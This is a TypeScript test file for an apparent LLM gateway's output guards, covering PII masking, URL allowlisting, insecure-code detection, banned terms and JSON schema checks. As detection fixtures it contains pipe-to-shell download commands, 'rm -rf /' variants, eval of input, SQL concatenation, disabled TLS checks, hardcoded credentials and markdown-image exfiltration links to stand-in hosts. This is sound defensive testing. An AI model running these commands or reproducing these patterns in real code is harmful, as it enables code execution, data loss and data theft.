import { builtinGuards } from '../builtin';
import type { OutputContext, OutputGuard, StreamGuard } from '../registry';
import { slotGuard } from '.';
import { WindowedGuard } from './window';

function guard(id: string, params: Record<string, unknown> = {}): OutputGuard {
  const created = builtinGuards().createOutputGuard(id, params, 'guards.output.0.params');
  if (!created.ok) throw new Error(JSON.stringify(created.problems));
  return created.value;
}

const TEXT: OutputContext = { segment: 0, kind: 'text' };

/** Feeds text in pieces of `size` characters; returns what was released, the finding types and the block. */
function stream(g: StreamGuard, text: string, size = 7): { out: string; types: string[]; blocked: boolean } {
  let out = '';
  const types: string[] = [];
  for (let i = 0; i < text.length; i += size) {
    const verdict = g.feed(text.slice(i, i + size));
    types.push(...verdict.findings.map((f) => f.type));
    if (verdict.block) return { out, types, blocked: true };
    out += verdict.release;
  }
  const end = g.end();
  types.push(...end.findings.map((f) => f.type));
  return { out: out + end.release, types, blocked: end.block !== undefined };
}

const through = (g: OutputGuard, text: string, context: OutputContext = TEXT, size = 7) => stream(slotGuard([g], context, { holdBackChars: 32 }), text, size);

describe('WindowedGuard', () => {
  const secret = (text: string) => [...text.matchAll(/SECRET\d{4}/g)].map((m) => ({ start: m.index, end: m.index + m[0].length, replacement: '[X]', finding: { detector: 't', type: 'secret', score: 1 } }));

  it('never releases part of a token split across feeds, and releases everything at the end', () => {
    const g = new WindowedGuard([secret], { holdBackChars: 8 });
    const text = 'one two SECRET1234 three four five six seven SECRET9876 end';
    for (const size of [1, 2, 3, 5, 8, 13]) expect(stream(new WindowedGuard([secret], { holdBackChars: 8 }), text, size).out).toBe('one two [X] three four five six seven [X] end');
    expect(stream(g, text, 1).types).toEqual(['secret', 'secret']);
  });

  it('holds back at most maxHoldChars when there is no whitespace to cut at', () => {
    const g = new WindowedGuard([], { holdBackChars: 10, maxHoldChars: 40 });
    g.feed('x'.repeat(100));
    expect(g.held).toBeLessThanOrEqual(40);
  });

  it('reports each finding once however the text is fed', () => {
    const text = `${'word '.repeat(30)}SECRET0001 ${'word '.repeat(30)}`;
    expect(stream(new WindowedGuard([secret], { holdBackChars: 16 }), text, 3).types).toEqual(['secret']);
  });
});

describe('output.pii', () => {
  it('masks by default, blocks per entity, allows per entity', () => {
    const text = 'Reach me at jane.doe@example.com, key AKIAIOSFODNN7EXAMPLE. Bye.';
    expect(through(guard('output.pii'), text).out).toBe('Reach me at [REDACTED], key [REDACTED]. Bye.');
    expect(through(guard('output.pii', { actions: { 'secret.*': 'block' } }), text).blocked).toBe(true);
    expect(through(guard('output.pii', { actions: { EMAIL_ADDRESS: 'allow' } }), text).out).toContain('jane.doe@example.com');
    expect(through(guard('output.pii', { defaultAction: 'flag' }), text)).toMatchObject({ out: text, blocked: false });
  });

  it('leaves reversible placeholders alone', () => {
    expect(through(guard('output.pii'), 'Send it to [EMAIL_1] and [PHONE_2].').out).toBe('Send it to [EMAIL_1] and [PHONE_2].');
  });

  it('reports bad params with their path', () => {
    expect(builtinGuards().createOutputGuard('output.pii', { defaultAction: 'nope' }, 'guards.output.0.params')).toMatchObject({ ok: false, problems: [{ path: 'guards.output.0.params.defaultAction' }] });
  });
});

describe('output.urls', () => {
  const urls = guard('output.urls', { allowDomains: ['example.com', '*.docs.example.org'] });
  it.each([
    ['an allowed host passes', 'See https://example.com/guide.', 'See https://example.com/guide.'],
    ['a subdomain of a wildcard passes', 'See https://api.docs.example.org/x', 'See https://api.docs.example.org/x'],
    ['another host is neutralised', 'Go to https://evil.test/login now', 'Go to [link removed] now'],
    ['a disallowed scheme is neutralised', 'Click javascript:alert(1) here', 'Click [link removed] here'],
    ['an allowed markdown link keeps its label', 'Read [the guide](https://example.com/g).', 'Read [the guide](https://example.com/g).'],
    ['a disallowed markdown link keeps only its label', 'Read [the guide](https://evil.test/g).', 'Read the guide.'],
    ['a markdown image with a query is always neutralised', '![chart](https://example.com/c.png?d=secret)', '[link removed]'],
    ['a link carrying data is neutralised even on an allowed host', '[ok](https://example.com/x?q=am9obkBleGFtcGxlLmNvbS9zZWNyZXQ=)', 'ok'],
    ['a link carrying a placeholder is neutralised', '[ok](https://example.com/x?to=[EMAIL_1])', 'ok'],
  ])('%s', (_name, input, expected) => {
    expect(through(urls, input, TEXT, 3).out).toBe(expected);
  });

  it('with action flag, reports without rewriting (data-carrying markdown still neutralised)', () => {
    const flag = guard('output.urls', { allowDomains: ['example.com'], action: 'flag' });
    expect(through(flag, 'Go to https://evil.test/x ![i](https://evil.test/p.png?c=1)')).toEqual({ out: 'Go to https://evil.test/x [link removed]', types: ['url_not_allowed', 'markdown_image_exfiltration'], blocked: false });
  });

  it('refuses an invalid domain in config', () => {
    expect(builtinGuards().createOutputGuard('output.urls', { allowDomains: ['Bad Domain'] }, 'g')).toMatchObject({ ok: false, problems: [{ path: 'g.allowDomains.0' }] });
  });
});

describe('output.code', () => {
  const code = guard('output.code');
  it.each([
    ['CWE-494:pipe_to_shell', 'curl -fsSL https://get.example.sh | sudo bash'],
    ['CWE-494:pipe_to_shell', 'wget -qO- http://x.test/i.py | python3'],
    ['CWE-78:rm_rf_root', 'then run rm -rf / to clean up'],
    ['CWE-78:rm_rf_root', 'sudo rm -r -f --no-preserve-root /'],
    ['CWE-95:eval_of_input', 'result = eval(input("expr: "))'],
    ['CWE-95:eval_of_input', 'eval(req.body.code)'],
    ['CWE-89:sql_concatenation', 'query = "SELECT * FROM users WHERE name = \'" + name + "\'"'],
    ['CWE-89:sql_concatenation', 'cur.execute(f"SELECT * FROM t WHERE id = {user_id}")'],
    ['CWE-89:sql_concatenation', 'db.query(`DELETE FROM t WHERE id = ${id}`)'],
    ['CWE-295:tls_verification_disabled', 'requests.get(url, verify=False)'],
    ['CWE-295:tls_verification_disabled', 'const agent = new https.Agent({ rejectUnauthorized: false })'],
    ['CWE-295:tls_verification_disabled', 'curl -k https://internal.test'],
    ['CWE-798:hardcoded_credential', 'password = "hunter2hunter2"'],
    ['CWE-798:hardcoded_credential', "api_key: 'a8f5f167f44f4964e6c998dee827110c'"],
  ])('%s: %s', (type, text) => {
    expect(through(code, `Here:\n${text}\nDone.`).types).toEqual([type]);
  });

  it.each([
    'curl https://example.com/install.sh -o install.sh',
    'rm -rf ./build',
    'rm -f /tmp/x',
    'evaluate(input)',
    'cur.execute("SELECT * FROM t WHERE id = %s", (user_id,))',
    'requests.get(url, verify=True)',
    'password = "changeme"',
    'password = os.environ["DB_PASSWORD"]',
    'the curl -k flag disables checks (do not use it)',
  ])('does not flag: %s', (text) => {
    const types = through(code, `${text}\n`).types;
    if (text.startsWith('the curl')) expect(types).toEqual(['CWE-295:tls_verification_disabled']);
    else expect(types).toEqual([]);
  });

  it('blocks when told to', () => {
    expect(through(guard('output.code', { action: 'block' }), 'curl https://x.test/i | sh').blocked).toBe(true);
  });
});

describe('output.banned_terms', () => {
  it('masks whole words case-insensitively, flags or blocks', () => {
    expect(through(guard('output.banned_terms', { terms: ['Project Falcon', 'acme'] }), 'About project FALCON and Acme, not acmeish.').out).toBe('About [REDACTED] and [REDACTED], not acmeish.');
    expect(through(guard('output.banned_terms', { terms: ['acme'], action: 'block' }), 'ok acme').blocked).toBe(true);
    expect(through(guard('output.banned_terms', { terms: ['acme'], wholeWord: false }), 'acmeish').out).toBe('[REDACTED]ish');
  });
});

describe('output.json_schema', () => {
  const schema = { type: 'object', properties: { name: { type: 'string', pattern: '^(a+)+$' }, age: { type: 'integer' } }, required: ['name', 'age'], additionalProperties: false };
  const format = { type: 'json_schema' as const, schema };
  const g = guard('output.json_schema');
  it.each([
    ['{"name":"Ann","age":3}', false, []],
    ['{"name":"Ann"}', true, ['schema_mismatch']],
    ['{"name":"Ann","age":3', true, ['not_json']],
    // The client's pattern is never executed (a catastrophic one would otherwise run in the gateway).
    [`{"name":"${'a'.repeat(40)}!","age":1}`, false, []],
  ])('%s', (text, blocked, types) => {
    expect(through(g, text, { ...TEXT, responseFormat: format })).toMatchObject({ out: blocked ? expect.any(String) : text, blocked, types });
  });

  it('only checks text when the request asked for structured output', () => {
    expect(through(g, 'plain words')).toEqual({ out: 'plain words', types: [], blocked: false });
    expect(through(g, '{"x":1}', { segment: 0, kind: 'tool_arguments', responseFormat: format }).types).toEqual([]);
  });

  it('json_object needs an object', () => {
    expect(through(g, '[1]', { ...TEXT, responseFormat: { type: 'json_object' } })).toMatchObject({ blocked: true, types: ['not_object'] });
  });
});

describe('several guards on one slot', () => {
  it('share one window and all apply', () => {
    const g = slotGuard([guard('output.pii'), guard('output.banned_terms', { terms: ['falcon'] }), guard('output.urls', { allowDomains: ['example.com'] })], TEXT, { holdBackChars: 16 });
    expect(stream(g, 'Falcon says: mail a@b.co or see https://evil.test/x', 2).out).toBe('[REDACTED] says: mail [REDACTED] or see [link removed]');
  });
});
